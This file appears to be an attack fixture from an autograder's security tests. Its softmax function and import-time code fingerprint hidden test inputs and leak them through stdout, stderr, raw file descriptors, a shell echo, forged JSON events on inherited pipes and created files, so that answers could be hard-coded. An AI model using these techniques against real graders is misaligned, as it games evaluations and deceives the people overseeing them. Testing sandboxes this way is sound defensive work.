# ruff: noqa
"""ATTACK leak_hidden_inputs (class: reading hidden cases back through the results).

Intent: learn the hidden cases, to hard-code their answers in the next submission. Every
input softmax receives is fingerprinted (HIDDEN-PROBE-<token>-<sha256 of its bytes>) and
sent out through every channel a child has: print, stderr, the raw fds 1 and 2, warnings,
a shell line and a magic (notes), an exception's message, events forged straight onto
every pipe the child holds (a note, a cell error, a report with the fingerprint as its
status), and a file named after it. Before any call, at import, it also fingerprints every
tensor the garbage collector and its own frames can reach (the inputs, had they been
handed over early). softmax then returns zeros, so it loses its points whatever happens.

Expected: softmax 0, the rest full marks; the results file (what a student may see) holds
the fingerprints of public inputs (the channels work) and none of a hidden input's.
"""

import gc
import hashlib
import json
import math
import os
import sys
import warnings

import torch

ATTACK = "leak_hidden_inputs"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
PROBE = f"HIDDEN-PROBE-{TOKEN}-"


def _probe(t):
    a = t.detach().cpu().contiguous()
    return PROBE + hashlib.sha256(a.numpy().tobytes()).hexdigest()[:24]


def _forge(text):
    events = [
        {"e": "note", "text": text},
        {"e": "cell_error", "i": 0, "type": "Leak", "message": text, "where": text},
        {"e": "call_end", "i": 0, "status": text},
    ]
    for fd in range(3, 40):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                for ev in events:
                    os.write(fd, (json.dumps(ev) + "\n").encode())
        except OSError:
            pass


def _leak(t):
    text = _probe(t)
    print(text)
    sys.stderr.write(text + "\n")
    sys.stdout.flush()
    for fd in (1, 2):
        os.write(fd, (text + "\n").encode())
    warnings.warn(text)
    get_ipython().system("echo " + text)
    get_ipython().run_line_magic("env", text)
    _forge(text)
    try:
        open(text, "w").close()
    except OSError:
        pass
    return text


for obj in gc.get_objects():
    if type(obj) is torch.Tensor and obj.dtype.is_floating_point and obj.numel() > 1:
        _leak(obj)


def softmax(x, dim=-1):
    raise ValueError(_leak(x))


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
